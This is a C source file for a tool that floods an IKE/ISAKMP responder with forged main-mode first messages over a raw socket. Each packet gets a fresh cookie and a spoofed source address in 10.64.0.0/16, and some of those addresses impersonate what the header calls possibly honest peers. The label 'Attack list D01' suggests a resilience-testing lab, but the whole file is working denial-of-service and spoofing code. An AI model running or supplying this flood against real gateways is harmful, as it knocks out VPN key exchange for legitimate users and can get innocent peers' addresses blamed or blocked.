/* flood TARGET RATE SECONDS     sends RATE good first messages of main mode a second, each with another cookie and from
 * an address that is not its sender's: every other one from 10.64.0.1 to 10.64.0.200, whose peers may be honest, the
 * others from anywhere in 10.64.0.0/16. Says how many it sent. Wants a raw socket. Attack list D01. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { HONEST = 200, ISAKMP_PORT = 500 };

/* AES-256, SHA-256, a pre-shared key, group 14, 86400 s */
static const uint8_t first_message[] = {
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x10,
    0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x58, 0x00, 0x00, 0x00, 0x3c, 0x00, 0x00, 0x00, 0x01,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x30, 0x01, 0x01, 0x00, 0x01, 0x00, 0x00, 0x00, 0x28, 0x01, 0x01,
    0x00, 0x00, 0x80, 0x01, 0x00, 0x07, 0x80, 0x0e, 0x01, 0x00, 0x80, 0x02, 0x00, 0x04, 0x80, 0x03, 0x00, 0x01,
    0x80, 0x04, 0x00, 0x0e, 0x80, 0x0b, 0x00, 0x01, 0x00, 0x0c, 0x00, 0x04, 0x00, 0x01, 0x51, 0x80,
};

struct datagram {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t message[sizeof first_message];
};

static uint32_t next_random(void)
{
    static uint64_t x = 88172645463325252u;

    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return (uint32_t)(x >> 16);
}

static void make(struct datagram *d, struct in_addr target, uint32_t number)
{
    uint32_t from = number % 2 == 0 ? 1 + next_random() % HONEST : next_random() % 0xffff;

    *d = (struct datagram){
        .ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .saddr = htonl(0x0a400000 + from)},
        .udp = {.source = htons(ISAKMP_PORT),
                .dest = htons(ISAKMP_PORT),
                .len = htons(sizeof d->udp + sizeof d->message)},
    };
    d->ip.daddr = target.s_addr;
    memcpy(d->message, first_message, sizeof first_message);
    memcpy(d->message, &(uint32_t[]){next_random() | 1, number}, 8);
}

static double now_s(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};

    if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
        fprintf(stderr, "flood TARGET RATE SECONDS\n");
        return 2;
    }
    double rate = atof(argv[2]), for_s = atof(argv[3]), begun_s = now_s();
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    uint32_t sent = 0;
    while (raw >= 0 && now_s() < begun_s + for_s) {
        for (uint32_t due = (uint32_t)((now_s() - begun_s) * rate); sent < due; sent++) {
            struct datagram d;

            make(&d, to.sin_addr, sent);
            if (sendto(raw, &d, sizeof d, 0, (struct sockaddr *)&to, sizeof to) < 0 && errno != ENOBUFS)
                perror("flood: sendto");
        }
        nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
    }
    printf("%u sent\n", sent);
    return raw < 0;
}
